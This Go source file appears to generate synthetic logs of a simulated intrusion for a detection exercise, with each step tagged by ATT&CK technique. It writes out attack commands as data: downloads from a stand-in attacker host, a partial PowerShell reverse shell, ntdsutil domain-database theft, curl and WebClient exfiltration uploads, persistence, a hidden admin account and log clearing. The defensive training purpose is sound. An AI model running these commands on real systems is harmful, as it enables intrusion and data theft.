package exercise

import (
	"encoding/base64"
	"unicode/utf16"

	"github.com/tocsin-project/tocsin/evtx/evtxtest"
)

// The second part of the story: from the first web shell to the end.

// encoded is a command as powershell.exe -EncodedCommand takes it.
func encoded(text string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(text)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

const powershell = system32 + `WindowsPowerShell\v1.0\powershell.exe`

// bringTools: PowerShell through the web shell fetches tools.
func (s *site) bringTools(t int64) {
	m := s.mail
	fetching := mark(execution, "T1059.001", "PowerShell with a hidden window and an encoded command")
	text := "whoami /all; net user /domain; ping -n 1 " + s.dc.ip
	p := s.shell(t, shellTwo, antSword, powershell, `powershell.exe -nop -w hidden -EncodedCommand `+encoded(text), "", fetching)
	m.script(t+800*millisecond, p, text, "", mark(discovery, "T1018", "the encoded command, as PowerShell ran it"))
	t += 70 * second
	url := "http://" + controller + ":8081/tools/nbtscan.exe"
	load := mark(control, "T1105", "a tool is downloaded from the attacker's server")
	p = s.shell(t, shellTwo, antSword, powershell, `powershell.exe -nop -w hidden -c "(New-Object System.Net.WebClient).DownloadFile('`+url+`','C:\ProgramData\nbtscan.exe')"`, "", load)
	m.script(t+600*millisecond, p, "(New-Object System.Net.WebClient).DownloadFile('"+url+"','C:\\ProgramData\\nbtscan.exe')", "", load)
	m.connect(t+900*millisecond, p, 50911, controller, 8081, "-", load)
	m.file(t+2*second, p, `C:\ProgramData\nbtscan.exe`, load)
	f := fetch{method: "GET", host: controller + ":8081", uri: "/tools/nbtscan.exe", agent: "-", status: 200, mime: "application/x-dosexec"}
	f.t, f.from, f.source, f.to, f.port, f.duration, f.received, f.truth = t+950*millisecond, m.ip, 50911, controller, 8081, 2*second, 36864, load
	s.zeek.fetch(f)
	t += 3 * minute
	util := mark(control, "T1105", "certutil.exe downloads from an address")
	c := s.shell(t, shellTwo, antSword, system32+"certutil.exe", `certutil.exe -urlcache -split -f http://`+controller+`:8081/tools/d2t.txt C:\ProgramData\d2t.txt`, "", util)
	m.connect(t+300*millisecond, c, 50918, controller, 8081, "-", util)
	f.uri, f.agent, f.mime, f.received, f.t, f.source = "/tools/d2t.txt", "CertUtil URL Agent", "text/plain", 118_212, t+350*millisecond, 50918
	f.truth = util
	s.zeek.fetch(f)
	t += 40 * second
	decode := mark(evasion, "T1140", "certutil.exe decodes a program")
	c = s.shell(t, shellTwo, antSword, system32+"certutil.exe", `certutil.exe -decode C:\ProgramData\d2t.txt C:\ProgramData\dns2tcp.exe`, "", decode)
	m.file(t+400*millisecond, c, `C:\ProgramData\dns2tcp.exe`, decode)
	t += 2 * minute
	reverse := mark(execution, "T1059.001", "PowerShell opens a reverse shell")
	p = s.shell(t, shellTwo, antSword, powershell, `powershell.exe -nop -w hidden -c "$client = New-Object System.Net.Sockets.TCPClient('`+controller+`',8443);$stream = $client.GetStream(); <# the rest is left out of this exercise: $stream.Write( #>"`, "", reverse)
	m.script(t+500*millisecond, p, "$client = New-Object System.Net.Sockets.TCPClient('"+controller+"',8443);$stream = $client.GetStream(); <# the rest is left out of this exercise: $stream.Write( #>", "", reverse)
	odd := mark(control, "T1571", "a connection to the attacker's server on an odd port")
	m.connect(t+700*millisecond, p, 50933, controller, 8443, "-", odd)
	s.zeek.conn(conn{t: t + 710*millisecond, from: m.ip, source: 50933, to: controller, port: 8443, duration: 11 * minute, sent: 48_211, received: 9_180, truth: odd.unseen("to the sensor it is a connection without a known protocol")})
}

// scanInside: who else is in the network?
func (s *site) scanInside(t int64) {
	m := s.mail
	p := s.shell(t, shellTwo, antSword, `C:\ProgramData\nbtscan.exe`, `C:\ProgramData\nbtscan.exe -r 10.20.1.0/24`, `C:\ProgramData\`, mark(discovery, "T1046", "nbtscan.exe is run from ProgramData"))
	scan := mark(discovery, "T1046", "the mail server scans the server network")
	for host := 1; host <= 60; host++ {
		t += int64(s.rand.between(15, 60)) * millisecond
		state, seen := "S0", scan
		if host == 10 || host == 40 || host == 50 || host == 60 {
			state, seen = "SF", scan.unseen("this one was answered, as any connection")
		}
		s.zeek.conn(conn{t: t, from: m.ip, source: 51000 + host, to: "10.20.1." + string(number10(host)), port: 445, duration: 3 * millisecond, sent: 120, received: 300, state: state, truth: seen})
	}
	m.connect(t, p, 51010, s.dc.ip, 445, "microsoft-ds", scan)
}

// persist: a task, a service and a run key.
func (s *site) persist(t int64) {
	m := s.mail
	task := mark(persistence, "T1053.005", "a scheduled task starts a program in ProgramData\\VSPerfMon")
	p := s.shell(t, shellTwo, antSword, system32+"schtasks.exe", `schtasks /create /ru SYSTEM /tn "Microsoft\Windows\VSPerfMon" /tr "C:\ProgramData\VSPerfMon\VSPerfMon.exe" /sc minute /mo 45 /f`, "", task)
	m.file(t-8*second, p, `C:\ProgramData\VSPerfMon\VSPerfMon.exe`, mark(persistence, "T1105", "a program is put into ProgramData\\VSPerfMon"))
	m.audit(t+200*millisecond, taskType, task, evtxtest.SID("S-1-5-18"), m.name+"$", domain, evtxtest.Hex64(0x3e7),
		`\Microsoft\Windows\VSPerfMon`, `<?xml version="1.0" encoding="UTF-16"?><Task version="1.2"><Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals><Actions Context="Author"><Exec><Command>C:\ProgramData\VSPerfMon\VSPerfMon.exe</Command></Exec></Actions></Task>`)
	m.start(t+45*minute, m.svchost, systemAccount, `C:\Windows\system32\`, `C:\ProgramData\VSPerfMon\VSPerfMon.exe`, `C:\ProgramData\VSPerfMon\VSPerfMon.exe`, mark(persistence, "T1053.005", "the task runs"))
	t += 4 * minute
	service := mark(persistence, "T1543.003", "a service starts a program in Users\\Public")
	image := `C:\Users\Public\opera\Opera_browser.exe`
	s.shell(t, shellTwo, antSword, system32+"sc.exe", `sc create OperaUpdate binPath= "`+image+`" start= auto`, "", service)
	m.install(t+300*millisecond, "OperaUpdate", image, "user mode service", "auto start", "LocalSystem", service)
	o := m.start(t+9*second, m.services, systemAccount, `C:\Windows\system32\`, image, image, service)
	m.ask(t+11*second, o, "cdn-sync.example", controller, mark(control, "T1071", "the service looks up its server"))
	t += 2 * minute
	key := mark(persistence, "T1547.001", "a run key starts a program in Users\\Public")
	r := s.shell(t, shellTwo, antSword, system32+"reg.exe", `reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v OperaUpdate /d "`+image+`" /f`, "", key)
	m.registry(t+100*millisecond, r, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OperaUpdate`, image, key)
}

// hideAccount: an account that looks like a machine's becomes administrator.
func (s *site) hideAccount(t int64) {
	m := s.mail
	machine := account{m.name + "$", domain, "S-1-5-18", 0x3e7}
	add := mark(persistence, "T1136.001", "a local account whose name ends in $ is made")
	s.shell(t, shellTwo, antSword, system32+"net.exe", `net user support$ [password left out] /add`, "", add)
	m.newUser(t+200*millisecond, "support$", 1012, machine, add)
	rise := mark(persistence, "T1098", "the new account becomes a local administrator")
	s.shell(t+20*second, shellTwo, antSword, system32+"net.exe", `net localgroup Administrators support$ /add`, "", rise)
	m.group(t+20*second+200*millisecond, "support$", domainSID+"-1012", "Administrators", "S-1-5-32-544", machine, rise)
}

// guessSSH: from the mail server to the file server, password by password.
func (s *site) guessSSH(t int64) {
	h, from := s.files, s.mail.ip
	guess := mark(credentials, "T1110.001", "passwords are guessed over ssh from the mail server")
	for _, g := range []struct {
		name  string
		known bool
	}{
		{"root", true},
		{"root", true},
		{"root", true},
		{"admin", false},
		{"administrator", false},
		{"backup", true},
		{"root", true},
		{"it.admin", false},
		{"svc-backup", true},
		{"root", true},
		{"root", true},
		{"root", true},
		{"admin", false},
		{"test", false},
		{"backup", true},
		{"root", true},
		{"it.admin", false},
		{"root", true},
		{"root", true},
		{"backup", true},
		{"root", true},
		{"svc-backup", true},
		{"svc-backup", true},
		{"svc-backup", true},
	} {
		t += int64(s.rand.between(1500, 3800)) * millisecond
		h.refuse(t, g.name, g.known, from, guess)
		s.zeek.conn(conn{t: t - second, from: from, to: h.ip, port: 22, service: "ssh", duration: 1800 * millisecond, sent: 1900, received: 2400, truth: guess.unseen("a failed login looks like a short session on the wire")})
	}
	t += 4 * second
	in := mark(lateral, "T1078", "a password fits after many that did not")
	sshd, session := h.signIn(t, backupUser, from, "password", in)
	s.zeek.conn(conn{t: t - second, from: from, to: h.ip, port: 22, service: "ssh", duration: 14 * minute, sent: 38_000, received: 191_000, truth: in.unseen("a session inside the network")})
	shell := sshd + 7
	for _, c := range []struct {
		program   string
		arguments []string
		technique string
		what      string
	}{
		{"/usr/bin/whoami", []string{"whoami"}, "T1033", "who am I on Linux"},
		{"/usr/bin/cat", []string{"cat", "/etc/passwd"}, "T1087.001", "the accounts of the file server"},
		{"/usr/bin/ps", []string{"ps", "aux"}, "T1057", "the processes of the file server"},
		{"/usr/bin/find", []string{"find", "/srv/shares", "-name", "*.pst"}, "T1083", "where the mail archives are"},
		{"/usr/bin/python3", []string{"python3", "-c", "import pty;pty.spawn('/bin/bash')"}, "T1059.006", "Python makes a terminal"},
		{"/usr/bin/crontab", []string{"crontab", "/tmp/.c"}, "T1053.003", "a crontab is installed from /tmp"},
		{"/usr/bin/tar", []string{"tar", "czf", "/tmp/.srv.tgz", "/srv/shares/mayor", "/srv/shares/council"}, "T1560", "shares are packed to a hidden file in /tmp"},
		{"/usr/bin/curl", []string{"curl", "-s", "-T", "/tmp/.srv.tgz", "http://" + drop + ":8080/u/"}, "T1048", "the archive is uploaded with curl"},
	} {
		t += int64(s.rand.between(14, 60)) * second
		m := mark(discovery, c.technique, c.what)
		switch c.technique {
		case "T1059.006":
			m.Stage = execution
		case "T1053.003":
			m.Stage = persistence
		case "T1560":
			m.Stage = collection
		case "T1048":
			m.Stage = exfiltration
		}
		h.run(command{t: t, as: backupUser, session: session, parent: shell, tty: "pts1", directory: "/tmp", program: c.program, arguments: c.arguments, key: "commands", truth: m})
	}
	up := mark(exfiltration, "T1048", "the file server's shares are uploaded over plain HTTP to an odd port")
	f := fetch{method: "PUT", host: drop + ":8080", uri: "/u/.srv.tgz", agent: "curl/7.64.0", status: 201, mime: "application/gzip"}
	f.t, f.from, f.to, f.port, f.duration, f.sent = t+200*millisecond, h.ip, drop, 8080, 4*minute, 311_427_072
	f.truth = up
	s.zeek.fetch(f)
	h.log(t+2*minute, "crontab", h.pid(), mark(persistence, "T1053.003", "a crontab is replaced"), "(svc-backup) REPLACE (svc-backup)")
	h.signOut(t+6*minute, backupUser, sshd, session, in)
}

// takeDomain: with the administrator's password, from the mail server to the
// domain controller.
func (s *site) takeDomain(t int64) {
	m, d := s.mail, s.dc
	a := s.admin
	come := mark(lateral, "T1078.002", "the administrator's account signs in from the mail server at night")
	d.ticket(t-second, a, m.ip, "krbtgt", come.unseen("a ticket like any other"))
	a = d.logon(t, a, logon{kind: 3, process: "NtLmSsp ", pack: "NTLM", workstation: m.name, address: m.ip, port: 51990}, come.unseen("an administrator's network logon; only the hour and the place are odd"))
	share := mark(lateral, "T1021.002", "a program is written to the administrative share of the domain controller")
	d.share(t+200*millisecond, a, m.ip, `\\*\ADMIN$`, `\??\C:\Windows`, share.unseen("administrators open the share too; writing a program there is told"))
	d.audit(t+300*millisecond, fileShareType, share, evtxtest.SID(a.sid), a.name, a.domain, evtxtest.Hex64(a.logon), "File",
		m.ip, "51991", `\\*\ADMIN$`, `\??\C:\Windows`, "PSEXESVC.exe", evtxtest.Hex32(0x12019f), "%%1538\r\n\t\t\t\t%%4417\r\n\t\t\t\t", "-")
	service := mark(lateral, "T1569.002", "PsExec runs on the domain controller")
	d.install(t+800*millisecond, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "user mode service", "demand start", "LocalSystem", service)
	px := d.start(t+900*millisecond, d.services, systemAccount, `C:\Windows\system32\`, `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`, service)
	cmd := d.start(t+2*second, px, systemAccount, `C:\Windows\system32\`, system32+"cmd.exe", `"cmd.exe"`, service)
	steal := mark(credentials, "T1003.003", "the domain's database is copied with ntdsutil")
	n := d.start(t+31*second, cmd, systemAccount, `C:\Windows\system32\`, system32+"ntdsutil.exe", `ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\ifm" q q`, steal)
	d.file(t+44*second, n, `C:\ProgramData\ifm\Active Directory\ntds.dit`, steal)
	d.file(t+45*second, n, `C:\ProgramData\ifm\registry\SYSTEM`, steal)
	z := d.start(t+2*minute, cmd, systemAccount, `C:\ProgramData\`, `C:\ProgramData\7z.exe`, `7z.exe a -t7z -mx1 C:\ProgramData\ifm.7z C:\ProgramData\ifm`, mark(collection, "T1560", "the domain's database is packed in ProgramData"))
	d.file(t+2*minute+20*second, z, `C:\ProgramData\ifm.7z`, mark(collection, "T1560", "an archive appears in ProgramData"))
	d.logoff(t+20*minute, a, 3)
}

// exportMail: mailboxes are exported with Exchange's own cmdlets and packed.
func (s *site) exportMail(t int64) {
	m := s.mail
	export := mark(collection, "T1114", "the Exchange snap-in is loaded to export mailboxes")
	line := `powershell.exe -nop -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox mayor.office -FilePath \\localhost\c$\ProgramData\pst\mayor.pst"`
	p := s.shell(t, shellTwo, antSword, powershell, line, "", export)
	m.script(t+700*millisecond, p, line[len(`powershell.exe -nop -c "`):len(line)-1], "", export)
	who, sid, shell := `NT AUTHORITY\SYSTEM`, "S-1-5-18", string(number10(int(p.id)))+" powershell"
	for i, box := range []string{"mayor", "registry", "legal"} {
		at := t + int64(i)*95*second + 3*second
		name := box + ".office"
		if box == "legal" {
			name = "legal.desk"
		}
		m.cmdlet(at, "New-MailboxExportRequest", `-Mailbox "`+name+`" -FilePath "\\localhost\c$\ProgramData\pst\`+box+`.pst"`, who, sid, shell, mark(collection, "T1114", "a mailbox is exported to a file: "+name))
		m.file(at+20*second, m.host, `C:\ProgramData\pst\`+box+`.pst`, mark(collection, "T1114", "a mailbox as a file in ProgramData"))
	}
	t += 7 * minute
	pack := mark(collection, "T1560", "exported mailboxes are packed in ProgramData")
	z := s.shell(t, shellTwo, antSword, `C:\ProgramData\7z.exe`, `7z.exe a -t7z -mx1 -v200m C:\Programdata\pst\it.zip C:\Programdata\pst\*.pst`, `C:\ProgramData\`, pack)
	m.file(t+30*second, z, `C:\ProgramData\pst\it.zip.001`, pack)
	m.cmdlet(t+3*minute, "Remove-MailboxExportRequest", `-Identity "`+dnsDomain+`/Town Hall/Offices/mayor.office\MailboxExport" -Confirm "False"`, who, sid, shell, mark(evasion, "T1070", "the export request is removed"))
}

// beacon: the service calls its server, every ten minutes, in plain HTTP on
// an odd port.
func (s *site) beacon(t int64) {
	for i := range 18 {
		f := fetch{method: "POST", host: controller + ":8081", uri: "/submit.php?id=" + string(number10(41022+i)), agent: "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", status: 200, mime: "application/octet-stream"}
		f.t, f.from, f.to, f.port, f.duration, f.sent, f.received = t+int64(i)*10*minute+s.rand.long(9*second), s.mail.ip, controller, 8081, 900*millisecond, int64(s.rand.between(90, 900)), 48
		f.truth = mark(control, "T1071", "the implant calls its server")
		s.zeek.fetch(f)
	}
	odd := mark(control, "T1571", "ssh on a port that is not ssh's, to the attacker's server")
	s.zeek.conn(conn{t: t + 4*minute, from: s.mail.ip, to: controller, port: 8443, service: "ssh", duration: 51 * minute, sent: 188_000, received: 91_000, truth: odd})
}

// tunnel: dns2tcp carries data in the names that it asks for.
func (s *site) tunnel(t int64) {
	m := s.mail
	s.shell(t, shellTwo, antSword, `C:\ProgramData\dns2tcp.exe`, `C:\ProgramData\dns2tcp.exe -z t1.cdn-sync.example`, `C:\ProgramData\`, mark(control, "T1572", "dns2tcp.exe is started"))
	what := mark(control, "T1572", "data in the names of TXT questions")
	for i := range 120 {
		if i == 100 {
			what = what.unseen("the alert counts it, and names its first hundred records only")
		}
		t += int64(s.rand.between(200, 2600)) * millisecond
		name := string(s.rand.hex(nil, 56, hexLower)) + "." + string(s.rand.hex(nil, 40, hexLower)) + ".t1.cdn-sync.example"
		s.zeek.lookup(lookup{t: t, from: m.ip, name: name, kind: "TXT", answers: "TXT 60 " + string(s.rand.hex(nil, 60, hexLower)), truth: what})
	}
}

// carryOut: the archives leave.
func (s *site) carryOut(t int64) {
	m := s.mail
	move := mark(collection, "T1074", "the archive is moved to where the web server serves it")
	s.shell(t, shellTwo, antSword, "", `move /y C:\Programdata\pst\it.zip.001 "`+exchangeRoot+`FrontEnd\HttpProxy\owa\auth\Current\themes\resources\it.zip"`, "", move)
	take := mark(exfiltration, "T1048", "an archive is fetched from the folder of the sign-in page")
	s.mail.request(request{t: t + 2*minute, client: operator, agent: browsers[0], method: "GET", stem: "/owa/auth/Current/themes/resources/it.zip", status: 200, taken: 610_000, sent: 209_715_200, truth: take})
	up := mark(exfiltration, "T1048", "hundreds of megabytes leave for the attacker's server")
	p := s.shell(t+20*minute, shellTwo, antSword, powershell, `powershell.exe -nop -w hidden -c "(New-Object System.Net.WebClient).UploadFile('http://`+drop+`:8080/u/','C:\ProgramData\ifm.7z')"`, "", up)
	m.connect(t+20*minute+second, p, 52200, drop, 8080, "-", up)
	f := fetch{method: "POST", host: drop + ":8080", uri: "/u/", agent: "-", status: 200, mime: "application/x-7z-compressed"}
	f.t, f.from, f.source, f.to, f.port, f.duration, f.sent, f.truth = t+20*minute+second, m.ip, 52200, drop, 8080, 6*minute, 402_117_632, up
	s.zeek.fetch(f)
}

// cleanUp: traces go.
func (s *site) cleanUp(t int64) {
	m := s.mail
	wipe := mark(evasion, "T1070", "an event log is cleared")
	s.shell(t, shellTwo, antSword, system32+"wevtutil.exe", `wevtutil cl "Windows PowerShell"`, "", wipe)
	e := logClearedType.event(m.fqdn, 1200, m.thread())
	e.UserID = "S-1-5-18"
	e.UserData = &evtxtest.Element{Name: "LogFileCleared", Namespace: "http://manifests.microsoft.com/win/2004/08/windows/eventlog", Children: []evtxtest.Element{
		{Name: "SubjectUserName", Value: "SYSTEM"}, {Name: "SubjectDomainName", Value: "NT AUTHORITY"}, {Name: "Channel", Value: "Windows PowerShell"}, {Name: "BackupPath", Value: ""},
	}}
	m.system.add(t+200*millisecond, wipe, e)
	d := s.shell(t+40*second, shellTwo, antSword, "", `del /q C:\Programdata\pst\*.pst C:\ProgramData\nbtscan.exe`, "", nil)
	gone := mark(evasion, "T1070", "exported mailboxes and tools are removed")
	for i, name := range []string{`C:\ProgramData\pst\mayor.pst`, `C:\ProgramData\pst\registry.pst`, `C:\ProgramData\pst\legal.pst`, `C:\ProgramData\nbtscan.exe`} {
		m.remove(t+41*second+int64(i)*millisecond, d, name, gone)
	}
}
